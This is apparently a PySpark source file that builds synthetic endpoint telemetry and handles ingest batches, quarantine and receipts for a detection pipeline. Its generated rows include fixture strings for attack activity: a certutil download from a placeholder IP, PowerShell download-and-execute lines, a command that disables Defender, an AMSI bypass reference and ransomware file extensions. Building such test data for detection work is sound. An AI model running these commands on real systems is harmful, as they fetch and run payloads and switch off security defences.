"""Telemetry sources: typed events, ingest batches, quarantine.

``TELEMETRY_SQL`` derives typed telemetry from the driver's tables; the text
runs in Spark and in DuckDB (``{us}`` is the engine's microseconds of ``ts``).
"""

from __future__ import annotations

import uuid
from contextlib import contextmanager

from pyspark.sql import DataFrame, SparkSession, Window
from pyspark.sql import functions as F

from telarium.checkpoint import folder
from telarium.sources.shapes import SHAPES

SPARK_US, DUCKDB_US = "unix_micros(cast(ts AS timestamp))", "epoch_us(ts)"

_COLUMNS = """id, host, us, pid, kind, parent_pid, image, command_line, exit_code, query_name, path, new_path,
  destination_ip, destination_port, bytes_sent, key_path, value_name, script_text, signed, is_local, client_machine, consumer, task_name,
  provider, event_id, user_name, reported_parent, signer, value_data, old_path, answers, source_ip, source_port, script_block_id, script_path, k"""

_PROVIDER = "CASE kind " + " ".join(f"WHEN '{shape}' THEN '{provider}'" for provider, _, shape, _ in SHAPES) + " END"
_EVENT_ID = "CASE kind " + " ".join(f"WHEN '{shape}' THEN {number}" for _, number, shape, _ in SHAPES) + " END"

TELEMETRY_SQL = f"""
WITH e AS (
  SELECT event_id, concat('host-', cast(user_id % 4 AS string)) AS host, {{us}} AS us, user_id AS pid, event_type,
    cast(regexp_extract(props, '([0-9]+)', 1) AS int) AS k, value
  FROM events),
t AS (
  SELECT event_id AS id, host, us, pid, k, value,
    CASE event_type WHEN 'signup' THEN 'process_start' WHEN 'error' THEN 'process_exit'
      WHEN 'view' THEN 'dns_query' WHEN 'purchase' THEN 'file_create' ELSE 'network_connect' END AS kind FROM e
  UNION ALL
  SELECT event_id + 1000000000 AS id, host, us, pid, k, value,
    CASE event_id % 8 WHEN 0 THEN 'image_load' WHEN 1 THEN 'registry_set' WHEN 2 THEN 'file_rename' WHEN 3 THEN 'file_delete'
      WHEN 4 THEN 'network_disconnect' WHEN 5 THEN 'wmi_process' WHEN 6 THEN 'wmi_subscription' ELSE 'task_registered' END AS kind FROM e
  UNION ALL
  SELECT doc_id + 2000000000 AS id, concat('host-', cast(doc_id % 4 AS string)) AS host, cast(1700000000000000 + doc_id * 60000000 AS bigint) AS us,
    cast(doc_id % 50 AS bigint) AS pid, cast(doc_id % 12 AS int) AS k, 0.0 AS value, 'script_block' AS kind FROM documents)
SELECT id, host, us, pid, kind,
  CASE WHEN kind = 'process_start' THEN pid % 4 + 4 * (k % 3) END AS parent_pid,
  CASE WHEN kind = 'process_start' THEN replace(CASE k % 8
    WHEN 0 THEN 'C:/Windows/System32/svchost.exe' WHEN 1 THEN 'C:/Users/a/AppData/Local/Temp/svchost.exe'
    WHEN 2 THEN 'C:/Windows/System32/powershell.exe' WHEN 3 THEN 'C:/Program Files/Office/winword.exe'
    WHEN 4 THEN 'C:/Windows/System32/certutil.exe' WHEN 5 THEN 'C:/Windows/explorer.exe'
    WHEN 6 THEN 'C:/Windows/System32/cmd.exe' ELSE concat('C:/Users/a/Downloads/tool', cast(k AS string), '.exe') END, '/', chr(92)) END AS image,
  CASE WHEN kind = 'process_start' THEN CASE k % 8
    WHEN 2 THEN CASE WHEN k % 16 = 2 THEN 'powershell -EncodedCommand SQBFAFgA -WindowStyle Hidden' ELSE 'powershell -enc SQBFAFgA' END
    WHEN 4 THEN 'certutil -urlcache -split -f http://198.51.100.7/a.dat' END
    WHEN kind = 'wmi_process' THEN CASE k % 3 WHEN 0 THEN 'C:/Windows/System32/cmd.exe /c whoami' WHEN 1 THEN 'notepad.exe' ELSE 'rundll32 a.dll,Run' END END AS command_line,
  CASE WHEN kind = 'process_exit' THEN CASE k % 5 WHEN 0 THEN -1073741819 WHEN 1 THEN -1073741571 ELSE 0 END END AS exit_code,
  CASE WHEN kind = 'dns_query' THEN concat('h', cast(k AS string), CASE k % 4 WHEN 0 THEN '.xyz' WHEN 1 THEN '.com' WHEN 2 THEN '.ORG' ELSE '.TOP' END) END AS query_name,
  CASE WHEN kind IN ('file_create', 'file_delete', 'image_load') THEN replace(CASE k % 4
    WHEN 0 THEN 'C:/Users/a/Temp/drop.exe' WHEN 1 THEN 'C:/Users/a/report.docx'
    WHEN 2 THEN 'C:/ProgramData/Run.PS1' ELSE 'C:/Windows/System32/x.dll' END, '/', chr(92)) END AS path,
  CASE WHEN kind = 'file_rename' THEN concat('C:', chr(92), 'd', cast(k AS string), CASE k % 4 WHEN 0 THEN '.LOCKED' WHEN 1 THEN '.txt' WHEN 2 THEN '.ryuk' ELSE '' END) END AS new_path,
  CASE WHEN kind IN ('network_connect', 'network_disconnect') THEN CASE k % 6 WHEN 0 THEN '10.0.0.5' WHEN 1 THEN '127.0.0.1' WHEN 2 THEN '8.8.8.8'
    WHEN 3 THEN '100.64.1.1' WHEN 4 THEN '198.18.0.9' ELSE '93.184.216.34' END END AS destination_ip,
  CASE WHEN kind IN ('network_connect', 'network_disconnect') THEN CASE k % 3 WHEN 0 THEN 443 WHEN 1 THEN 31337 ELSE 4444 END END AS destination_port,
  CASE WHEN kind = 'network_disconnect' AND k % 7 <> 0 THEN cast(k AS bigint) * 200000 END AS bytes_sent,
  CASE WHEN kind = 'registry_set' THEN replace(CASE k % 3 WHEN 0 THEN 'HKLM/Software/Microsoft/Windows/CurrentVersion/Run' WHEN 1 THEN 'HKCU/Software/Vendor' ELSE 'HKLM/Software/Winlogon/Shell' END, '/', chr(92)) END AS key_path,
  CASE WHEN kind = 'registry_set' AND k % 2 = 0 THEN concat('v', cast(k AS string)) END AS value_name,
  CASE WHEN kind = 'script_block' THEN CASE k
    WHEN 0 THEN 'powershell -EncodedCommand QQBCAEMA' WHEN 1 THEN 'run -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA; done' WHEN 2 THEN 'x -enc short'
    WHEN 3 THEN '[Convert]::FromBase64String($a)' WHEN 4 THEN 'IEX (New-Object Net.WebClient).DownloadString($u)' WHEN 5 THEN 'curl http://h/x'
    WHEN 6 THEN 'Set-MpPreference -DisableRealtimeMonitoring 1' WHEN 7 THEN '[Ref].Assembly.GetType(AmsiUtils)' WHEN 8 THEN 'Get-Service | Start-Service'
    WHEN 9 THEN '$a -bxor 3' WHEN 10 THEN 'Invoke-WebRequest $u; iex $x' ELSE 'Write-Output 1' END END AS script_text,
  CASE WHEN kind = 'image_load' THEN CASE k % 3 WHEN 0 THEN true WHEN 1 THEN false END END AS signed,
  CASE WHEN kind = 'wmi_process' THEN CASE k % 4 WHEN 0 THEN true WHEN 1 THEN false END END AS is_local,
  CASE WHEN kind = 'wmi_process' THEN CASE k % 5 WHEN 0 THEN '.' WHEN 1 THEN '' WHEN 2 THEN 'WS-7' END END AS client_machine,
  CASE WHEN kind = 'wmi_subscription' THEN CASE k % 3 WHEN 0 THEN 'CommandLineEventConsumer.Name="x"' WHEN 1 THEN 'NTEventLogEventConsumer' END END AS consumer,
  CASE WHEN kind = 'task_registered' THEN replace(CASE k % 4 WHEN 0 THEN '/Microsoft/Windows/Defrag' WHEN 1 THEN '/WindowsUpdateHelper' WHEN 2 THEN '/Backup' ELSE '/defender-scan' END, '/', chr(92)) END AS task_name,
  {_PROVIDER} AS provider, {_EVENT_ID} AS event_id,
  CASE WHEN kind IN ('process_start', 'wmi_process', 'task_registered') AND k % 4 <> 3 THEN concat('user', cast(k % 5 AS string)) END AS user_name,
  CASE WHEN kind = 'process_start' AND k % 3 <> 2 THEN replace(CASE k % 3 WHEN 0 THEN 'C:/Program Files/Office/winword.exe' ELSE 'C:/Windows/explorer.exe' END, '/', chr(92)) END AS reported_parent,
  CASE WHEN kind = 'image_load' AND k % 3 = 0 THEN 'Example Signing' END AS signer,
  CASE WHEN kind = 'registry_set' AND k % 3 <> 1 THEN concat('data', cast(k AS string)) END AS value_data,
  CASE WHEN kind = 'file_rename' AND k % 5 <> 0 THEN concat('C:', chr(92), 'old', cast(k AS string), '.txt') END AS old_path,
  CASE WHEN kind = 'dns_query' AND k % 3 = 0 THEN concat('10.0.0.', cast(k % 250 AS string)) END AS answers,
  CASE WHEN kind IN ('network_connect', 'network_disconnect') THEN concat('192.168.0.', cast(k % 250 AS string)) END AS source_ip,
  CASE WHEN kind IN ('network_connect', 'network_disconnect') THEN 40000 + k END AS source_port,
  CASE WHEN kind = 'script_block' AND k % 2 = 0 THEN concat('block-', cast(k AS string)) END AS script_block_id,
  CASE WHEN kind = 'script_block' AND k % 3 = 0 THEN concat('C:', chr(92), 'scripts', chr(92), 'a.ps1') END AS script_path,
  k
FROM t
"""

#: Columns of a telemetry row. Null means that the sensor could not say.
COLUMNS = tuple(c.strip() for c in _COLUMNS.replace("\n", " ").split(","))


def telemetry(spark: SparkSession, sf_dir: str, kind: str | None = None) -> DataFrame:
    """Typed telemetry derived from ``events`` and ``documents``; columns are pruned at the scan.

    With ``kind``, its rows only: the kind is then a constant, which leaves the scan of
    one input table, a test on it, and of each column what that kind has.
    """
    sql = TELEMETRY_SQL.format(us=SPARK_US)
    if kind is not None:
        sql = sql.replace("\nFROM t\n", f"\nFROM (SELECT id, host, us, pid, k, value, '{kind}' AS kind FROM t WHERE kind = '{kind}')\n")
    return spark.sql(sql.replace("FROM events", "FROM {events}").replace("FROM documents", "FROM {documents}"), events=spark.read.parquet(f"{sf_dir}/events.parquet"), documents=spark.read.parquet(f"{sf_dir}/documents.parquet"))


#: The JVM compiles no method of more bytes of bytecode; it interprets it at each row.
COMPILED_BYTES = 8_000


@contextmanager
def in_parts(spark: SparkSession):
    """What is run inside has no generated method that stays uncompiled: a stage with such a one goes without whole-stage code, in smaller methods."""
    name = "spark.sql.codegen.hugeMethodLimit"
    before = spark.conf.get(name)
    spark.conf.set(name, min(int(before), COMPILED_BYTES))
    try:
        yield
    finally:
        spark.conf.set(name, before)


def laid_out(events: DataFrame, *by: str) -> DataFrame:
    """``events`` written to the shared folder by kind (or ``by``) and read back, as such a table lies on
    disk: a pass over some kinds then reads their files and its own columns only."""
    spark = events.sparkSession
    at = f"{folder(spark)}/telemetry-{uuid.uuid4().hex}"
    with in_parts(spark):
        events.write.partitionBy(*(by or ("kind",))).parquet(at)
    return spark.read.schema(events.schema).parquet(at)


_STORED: dict[tuple, tuple[str, object]] = {}


def _files(spark: SparkSession, path: str):
    """(name, length, time) of the files of a table, a file or a folder, in any store."""
    root = spark._jvm.org.apache.hadoop.fs.Path(path)
    found = root.getFileSystem(spark._jsc.hadoopConfiguration()).globStatus(spark._jvm.org.apache.hadoop.fs.Path(f"{path}{{,/*}}"))
    return tuple(sorted((f.getPath().toString(), f.getLen(), f.getModificationTime()) for f in found if f.isFile()))


def _exists(spark: SparkSession, path: str) -> bool:
    root = spark._jvm.org.apache.hadoop.fs.Path(path)
    return root.getFileSystem(spark._jsc.hadoopConfiguration()).exists(root)


def stored(spark: SparkSession, name: str, sf_dir: str, build, *by: str) -> DataFrame:
    """A table derived from the input tables, written once a session by kind (or ``by``) as ingest would leave it.

    It holds whole tables, and is written anew if a file of the input tables was
    added, removed or changed, or if the written folder is gone.
    """
    key = (spark.sparkContext.applicationId, name, sf_dir, _files(spark, f"{sf_dir}/events.parquet"), _files(spark, f"{sf_dir}/documents.parquet"))
    if key not in _STORED or not _exists(spark, _STORED[key][0]):
        rows, at = build(), f"{folder(spark)}/{name}-{uuid.uuid4().hex}"
        with in_parts(spark):
            rows.write.partitionBy(*(by or ("kind",))).parquet(at)
        _STORED[key] = (at, rows.schema)
    at, schema = _STORED[key]
    return spark.read.schema(schema).parquet(at)


EVENT_FIELDS = "id bigint, host string, timestamp timestamp, received_at timestamp, schema_version int, source string, provider string, event_id int, pid bigint, tid bigint, level int, kind string, payload string"
ALERT_FIELDS = "id string, rule_id string, title string, description string, severity string, timestamp timestamp, host string, events array<bigint>, mitre_techniques array<string>, count int, status string"
BATCH_SCHEMA = f"batch_id string, sent_at timestamp, events array<struct<{', '.join(f.replace(' ', ':', 1) for f in EVENT_FIELDS.split(', '))}>>, alerts array<struct<{', '.join(f.replace(' ', ':', 1) for f in ALERT_FIELDS.split(', '))}>>"

#: Bounds of the envelope.
MAX_PAYLOAD_BYTES, MAX_BATCH_EVENTS, SCHEMA_VERSION = 65_536, 5_000, 2


def read_batches(spark: SparkSession, path: str, streaming: bool = False) -> DataFrame:
    """Ingest batches from JSON lines (gzip by suffix)."""
    reader = spark.readStream if streaming else spark.read
    return reader.schema(BATCH_SCHEMA).json(path)


def batch_events(batches: DataFrame) -> DataFrame:
    return batches.select("batch_id", "sent_at", F.explode("events").alias("e")).select("batch_id", "sent_at", "e.*")


def batch_alerts(batches: DataFrame) -> DataFrame:
    rows = batches.select("batch_id", F.explode("alerts").alias("a")).select("batch_id", "a.*")
    return rows.fillna({"count": 1, "status": "new"})


def read_telemetry(spark: SparkSession, path: str, schema=None, files_per_trigger: int | None = None) -> DataFrame:
    """Columnar telemetry; a stream if ``files_per_trigger`` is given."""
    if files_per_trigger is None:
        return spark.read.parquet(path)
    return spark.readStream.schema(schema).option("maxFilesPerTrigger", files_per_trigger).parquet(path)


def with_reject_reason(events: DataFrame, size_column: str = "payload") -> DataFrame:
    """Adds the reason for which a row goes to quarantine (null: accepted)."""
    reason = (
        F.when(F.col("host").isNull() | (F.trim("host") == ""), "empty host")
        .when(F.octet_length(F.coalesce(F.col(size_column), F.lit(""))) > MAX_PAYLOAD_BYTES, "payload too large")
        .when(F.col("schema_version") != SCHEMA_VERSION, "schema version")
    )
    return events.withColumn("reject_reason", reason)


def with_batch_reject_reason(batches: DataFrame) -> DataFrame:
    """Adds the reason for which a whole batch goes to quarantine (null: accepted)."""
    size = F.coalesce(F.size("events"), F.lit(0))
    reason = F.when(F.coalesce(F.trim("batch_id"), F.lit("")) == "", "empty batch id").when(size > MAX_BATCH_EVENTS, "too many events").when(F.exists(F.coalesce("alerts", F.array().cast(batches.schema["alerts"].dataType)), lambda a: F.coalesce(F.trim(a["id"]), F.lit("")) == ""), "empty alert id")
    return batches.withColumn("reject_reason", reason)


def receipts(deliveries: DataFrame, alerts: DataFrame, known_alerts: DataFrame) -> DataFrame:
    """One receipt for each delivery (batch_id, delivery): accepted_events, accepted_alerts, duplicate.

    ``deliveries``: batch_id, delivery (their order), events (a count);
    ``alerts``: batch_id, alert_id; ``known_alerts``: alert_id. A batch counts
    at its first delivery; an alert counts if no earlier batch had it.
    """
    first = F.col("delivery") == F.min("delivery").over(Window.partitionBy("batch_id"))
    rows = deliveries.withColumn("duplicate", ~first)
    sent = alerts.select("batch_id", "alert_id").distinct().join(rows.where("NOT duplicate").select("batch_id", "delivery"), "batch_id")
    new = sent.join(known_alerts.select("alert_id").distinct(), "alert_id", "left_anti").groupBy("alert_id").agg(F.min_by("batch_id", F.struct("delivery", "batch_id")).alias("batch_id"))
    counts = new.groupBy("batch_id").agg(F.count("*").alias("n"))
    rows = rows.join(counts, "batch_id", "left")
    once = lambda c: F.when(F.col("duplicate"), 0).otherwise(F.coalesce(c, F.lit(0))).cast("long")
    return rows.select("batch_id", "delivery", once(F.col("events")).alias("accepted_events"), once(F.col("n")).alias("accepted_alerts"), "duplicate")


def write_events(events: DataFrame, path: str, rows_per_file: int = 5_000_000) -> None:
    """Partitioned by date and a bucket of hosts, in files of bounded size."""
    rows = events.withColumn("date", F.to_date(F.timestamp_micros("us"))).withColumn("host_bucket", F.pmod(F.xxhash64("host"), F.lit(64)).cast("int"))
    rows.write.mode("append").option("maxRecordsPerFile", rows_per_file).partitionBy("date", "host_bucket").parquet(path)


def image_metadata(spark: SparkSession, path: str) -> DataFrame:
    """Digest and size of image files, the latest of each path."""
    files = spark.read.format("binaryFile").option("recursiveFileLookup", "true").load(path)
    each = files.select("path", "length", F.sha2("content", 256).alias("image_hash"), "modificationTime")
    return each.groupBy("path").agg(F.max_by(F.struct("image_hash", "length"), "modificationTime").alias("m")).select("path", "m.*")
